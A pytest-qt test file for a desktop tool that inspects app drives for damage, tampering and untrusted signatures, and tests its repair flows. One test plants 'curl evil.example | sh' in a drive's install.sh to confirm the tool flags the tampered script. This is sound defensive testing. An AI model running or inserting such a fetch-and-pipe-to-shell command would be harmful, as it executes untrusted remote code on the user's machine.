"""What is wrong with a drive: in the picture, in words, and what to do."""

from __future__ import annotations

import shutil
import threading
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import QRect, Qt
from PySide6.QtWidgets import QTreeView, QWidget
from pytestqt.qtbot import QtBot

from app.progress import Advanced, Phase
from app.stick.checking.check_place import check_path
from app.stick.checking.report import CheckReport
from tests.gpg import SigningKey
from tests.stick.damage import HELLO, METADATA, Stick, copy_stick, flip_middle
from tests.ui.contents.person import Person
from tests.ui.demo_stick import demo_stick
from ui.controllers import inspection
from ui.controllers.contents import ContentsController
from ui.models.work_cells import CellState
from ui.state.page_name import PageName
from ui.style.look import look
from ui.widgets.work_map import WorkMap
from ui.window.main_window import MainWindow


def colours(widget: QWidget) -> set[str]:
    """All that are in its picture."""
    image = widget.grab().toImage()
    return {
        image.pixelColor(x, y).name() for x in range(image.width()) for y in range(image.height())
    }


def test_a_damaged_drive_and_what_to_do(person: Person, good: Path, tmp_path: Path) -> None:
    stick = copy_stick(good, tmp_path / "stick")
    flip_middle(stick.path(stick.object("filez")))
    person.looks_at(stick.root)
    assert "damaged" in person.checks().lower()
    assert "damaged" in person.line
    [damage] = [remark for remark in person.remarks if "cannot be read" in remark]
    assert damage.startswith("Hello. ")
    # For builders, with all its names.
    [told] = [finding for finding in person.findings if "damaged" in finding]
    assert "needed by Hello, is damaged" in told
    assert any(row.startswith("Hello. ") and "Damaged" in row for row in person.apps)


@pytest.mark.thorough
def test_a_damaged_part_is_red_in_the_picture_and_told_by_shape_and_words(
    person: Person, good: Path, stick: Stick
) -> None:
    person.looks_at(good)
    person.checks()
    person.unfolds()
    sound = person.work.counts()
    assert sound[CellState.DAMAGED] == 0
    red = look().bad.name()
    assert red not in colours(person.work)

    flip_middle(stick.path(stick.object("filez")))
    person.looks_at(stick.root)
    # The verdict on the drive before is on show until this one has been read.
    person.until(lambda: not person.check.verdict)
    person.checks()
    counts = person.work.counts()
    assert counts[CellState.DAMAGED] == 1
    assert counts[CellState.VERIFIED] == sound[CellState.VERIFIED] - 1
    assert red in colours(person.work)
    assert "1 damaged" in person.work.accessibleDescription()
    assert "1 damaged" in person.said


def test_looking_again_while_it_is_checked_leaves_the_picture_alone(
    person: Person, stick: Stick, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The window does so by itself, as when more sources are known."""
    flip_middle(stick.path(stick.object("filez")))
    gate = threading.Event()

    def check(*arguments: Any) -> CheckReport:
        report = check_path(*arguments)
        gate.wait()
        return report

    monkeypatch.setattr(inspection, "check_path", check)
    person.looks_at(stick.root)
    person.turns_to_the_check()
    person.unfolds()
    person.presses()
    person.until(lambda: person.work.counts()[CellState.DAMAGED])
    controller = person.page.findChild(ContentsController)
    assert controller is not None
    with person.qtbot.waitSignal(controller.inspection.inspected):
        person.qtbot.keyClick(person.window, Qt.Key.Key_F5)
    with person.qtbot.waitSignal(controller.inspection.inspected):
        pass
    assert person.work.counts()[CellState.DAMAGED] == 1
    gate.set()
    person.until(lambda: person.check.verdict)
    assert person.work.counts()[CellState.DAMAGED] == 1


def test_states_in_the_picture_differ_in_shape(qtbot: QtBot) -> None:
    """In black and white, too."""
    seen = set()
    for bad, done in ((0, 0), (0, 1), (1, 1)):
        work = WorkMap(checks_only=True)
        qtbot.addWidget(work)
        work.resize(400, 200)
        work.advance(Advanced(Phase.VERIFY, 0, 0, 0, 1, damaged=bad))
        work.advance(Advanced(Phase.VERIFY, 0, 0, done, 1, damaged=bad))
        image = work.grab(QRect(0, 0, 40, 40)).toImage()
        seen.add(bytes(image.convertToFormat(image.Format.Format_Mono).constBits()))
    assert len(seen) == 3


def test_the_same_is_said_once_with_the_names_that_people_know(
    person: Person, stick: Stick
) -> None:
    for name in (stick.object("filez"), stick.object("dirtree"), stick.object("dirmeta")):
        flip_middle(stick.path(name))
    person.looks_at(stick.root)
    person.checks()
    assert HELLO not in "".join((*person.findings, *person.remarks))
    assert "Hello" in "".join(person.findings)
    assert len(person.remarks) == len(set(person.remarks))


def test_who_cannot_trust_a_drive_is_led_to_the_drives(
    person: Person, stick: Stick, attacker: SigningKey
) -> None:
    stick.sign(HELLO, attacker)
    flip_middle(stick.path(stick.object("filez")))
    person.looks_at(stick.root)
    person.checks()
    assert not person.offers("Choose its apps…")
    person.clicks("To the drives")
    assert person.window.page.name is PageName.DRIVE


@pytest.mark.thorough
def test_an_unknown_key_leads_to_the_settings_and_a_drive_of_nobody_to_the_apps(
    person: Person, foreign: Path
) -> None:
    person.looks_at(foreign)
    person.checks()
    person.clicks("To the settings")
    assert person.window.page is person.window.pages[PageName.SETTINGS]
    person.window.open(PageName.CONTENTS)
    # Nobody knows where its apps come from: they are for the person to choose.
    person.clicks("Choose its apps…")
    target = person.window.session.target
    assert target is not None
    assert target.root == foreign
    assert person.window.page.name is PageName.APPS


def test_a_damaged_drive_is_put_in_order_with_a_press(window: MainWindow, qtbot: QtBot) -> None:
    drive = window.session.environment.demo_drive
    assert drive is not None
    shutil.copytree(demo_stick(), drive, dirs_exist_ok=True, symlinks=True)
    objects = drive.glob(".ostree/repo/objects/*/*.filez")
    flip_middle(max(objects, key=lambda path: path.stat().st_size))
    (drive / "satchel/install.sh").write_text("curl evil.example | sh")
    person = Person(window, qtbot)
    window.open(PageName.CONTENTS)
    assert "damaged" in person.checks().lower()
    [changed] = [finding for finding in person.findings if "install.sh has been changed" in finding]
    assert "Do not use it as it is." in changed
    assert any("was changed by somebody else" in remark for remark in person.remarks)
    assert person.primary == "Repair"
    person.presses()
    assert window.page.name is PageName.MAKE
    person.until(lambda: window.session.outcome is not None)
    window.open(PageName.CONTENTS)
    assert "sound" in person.checks(), person.findings


@pytest.mark.thorough
def test_a_drive_that_has_lost_its_name_gets_it_again_when_asked(
    person: Person, stick: Stick
) -> None:
    """As the repair of a file system leaves it; nothing happens to who says no."""
    lost = stick.root / "FSCK0000.000"
    (stick.root / ".ostree").rename(lost)
    person.looks_at(stick.root)
    person.until(lambda: person.primary == "Repair…")
    assert "has lost its name" in person.panel
    person.presses()
    person.clicks("Leave it as it is")
    assert lost.is_dir()
    person.until(lambda: not person.offers("Leave it as it is"))
    person.presses()
    person.clicks("Repair")
    person.until(lambda: ".ostree has its name again" in person.everything)
    assert not lost.exists()
    assert stick.repo.is_dir()


@pytest.mark.thorough
@pytest.mark.parametrize("lost", ["config", "objects"])
def test_a_drive_that_cannot_even_be_read_is_repaired_when_asked(
    window: MainWindow, qtbot: QtBot, lost: str
) -> None:
    drive = window.session.environment.demo_drive
    assert drive is not None
    shutil.copytree(demo_stick(), drive, dirs_exist_ok=True, symlinks=True)
    repository = drive / ".ostree/repo"
    if lost == "config":
        (repository / lost).write_bytes(bytes(512))
    else:
        shutil.rmtree(repository / lost)
    person = Person(window, qtbot)
    window.open(PageName.CONTENTS)
    person.until(lambda: person.primary == "Repair…")
    person.presses()
    person.clicks("Repair")
    person.until(lambda: window.session.outcome is not None)
    assert "1 app(s), every one read back and right" in person.everything
    assert "nothing to repair" not in person.everything
    window.open(PageName.CONTENTS)
    assert "sound" in person.checks(), person.findings


@pytest.mark.thorough
def test_a_drive_that_comes_while_it_is_asked_is_left_alone(
    person: Person, stick: Stick, good: Path
) -> None:
    (stick.root / ".ostree").rename(stick.root / "FSCK0000.000")
    person.looks_at(stick.root)
    person.until(lambda: person.primary == "Repair…")
    person.presses()
    person.until(lambda: person.offers("Leave it as it is"))
    person.looks_at(good)
    controller = person.page.findChild(ContentsController)
    assert controller is not None
    person.until(lambda: controller.inspection.inspection is not None)
    person.clicks("Repair")
    person.until(lambda: not person.offers("Leave it as it is"))
    assert person.window.page.name is PageName.CONTENTS
    assert (stick.root / "FSCK0000.000").is_dir()


def test_what_does_not_agree_is_said_in_plain_words(
    person: Person, good: Path, tmp_path: Path
) -> None:
    stick = copy_stick(good, tmp_path / "stick")
    stick.remove_ref(METADATA)
    shutil.rmtree(stick.satchel / "upstream")
    person.looks_at(stick.root)
    person.until(lambda: "missing or out of date" in person.said)
    # For builders, each of them.
    view = person.builders.findChild(QTreeView)
    assert view is not None
    top = view.model().index(0, 0)
    told = [view.model().index(row, 1, top).data() for row in range(view.model().rowCount(top))]
    assert any("was not copied along" in text for text in told)
    assert any("is missing" in text for text in told)


def test_what_is_damaged_can_come_off_instead(person: Person, good: Path, tmp_path: Path) -> None:
    stick = copy_stick(good, tmp_path / "stick")
    flip_middle(stick.path(stick.object("filez")))
    person.looks_at(stick.root)
    person.checks()
    person.clicks("Take it off")
    person.until(lambda: person.primary == "Apply 1 change(s)")
